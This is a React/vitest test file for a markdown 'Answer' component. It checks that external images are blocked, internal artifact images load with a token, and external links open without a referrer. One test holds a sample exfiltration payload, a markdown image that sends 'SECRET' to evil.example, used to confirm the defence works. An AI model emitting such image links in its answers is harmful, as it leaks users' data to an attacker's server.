import { QueryClient, QueryClientProvider } from '@tanstack/react-query';
import { render, screen, waitFor } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { Answer } from './answer';

const ID = '0b7e6a4c-9d1f-4e2a-8c3b-5f6a7b8c9d0e';

function show(text: string) {
  const qc = new QueryClient({ defaultOptions: { queries: { retry: false } } });
  return render(
    <QueryClientProvider client={qc}>
      <Answer text={text} />
    </QueryClientProvider>,
  );
}

afterEach(() => vi.unstubAllGlobals());

describe('Answer', () => {
  it('never turns an external markdown image into a request', () => {
    const fetch = vi.fn();
    vi.stubGlobal('fetch', fetch);
    const { container } = show('Done.\n\n![the data](http://evil.example/?d=SECRET) and ![](https://evil.example/b.png)');
    expect(container.querySelector('img')).toBeNull();
    const blocked = screen.getAllByTestId('blocked-image');
    expect(blocked.map((b) => b.textContent)).toEqual([
      '[external image blocked: the data from evil.example]',
      '[external image blocked from evil.example]',
    ]);
    expect(container.innerHTML).not.toContain('src=');
    expect(fetch).not.toHaveBeenCalled();
  });

  it("shows images from the app's own artifacts, fetched with the token", async () => {
    const fetch = vi.fn(async () => new Response('png', { headers: { 'Content-Type': 'image/png' } }));
    vi.stubGlobal('fetch', fetch);
    URL.createObjectURL = () => 'blob:chart';
    URL.revokeObjectURL = () => undefined;
    const { container } = show(`![chart](/api/v1/artifacts/${ID}/content)`);
    await waitFor(() => expect(container.querySelector('img')?.getAttribute('src')).toBe('blob:chart'));
    expect(fetch).toHaveBeenCalledWith(`/api/v1/artifacts/${ID}/content`, expect.anything());
  });

  it('opens external links elsewhere without a referrer', () => {
    show('See [the source](https://example.org/page) or [home](/projects/p).');
    const external = screen.getByRole('link', { name: 'the source' });
    expect(external.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(external.getAttribute('target')).toBe('_blank');
    expect(screen.getByRole('link', { name: 'home' }).getAttribute('target')).toBeNull();
  });
});
